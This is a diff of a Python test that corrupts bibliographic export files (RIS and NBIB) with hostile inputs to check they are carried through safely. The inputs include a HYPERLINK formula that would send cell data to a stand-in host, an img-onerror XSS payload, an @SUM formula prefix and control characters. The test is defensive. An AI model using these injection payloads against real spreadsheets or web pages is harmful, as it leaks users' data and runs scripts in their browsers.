@@ -18,12 +18,15 @@ FORMULA = '=HYPERLINK("https://example.org?"&A1)'
 def test_it_is_carried_through_and_harms_nobody(tmp_path):
     home, folder = house(tmp_path / "house"), review(tmp_path / "review")
     raw = folder / "data/raw"
-    export = raw / "searches/first/embase.ris"
-    export.write_text(
-        export.read_text()
-        .replace("One-year survival", f'{FORMULA} {SCRIPT}<img src=x onerror="alert(1)"> One-year')
-        .replace("Costa, D", "@SUM(A1), D\x00\x0b")
-    )
+    for name in ("embase.ris", "pubmed.nbib"):  # both, or they would be no copies of one report
+        export = raw / "searches/first" / name
+        title = f'{FORMULA} {SCRIPT}<img src=x onerror="alert(1)"> One-year'
+        export.write_text(
+            export.read_text()
+            .replace("One-year survival", title)
+            .replace("Costa, D", "@SUM(A1), D\x00\x0b")
+            .replace("Costa D", "@SUM(A1) D")
+        )
     studies = raw / "extraction/studies.csv"
     studies.write_text(
         studies.read_text()
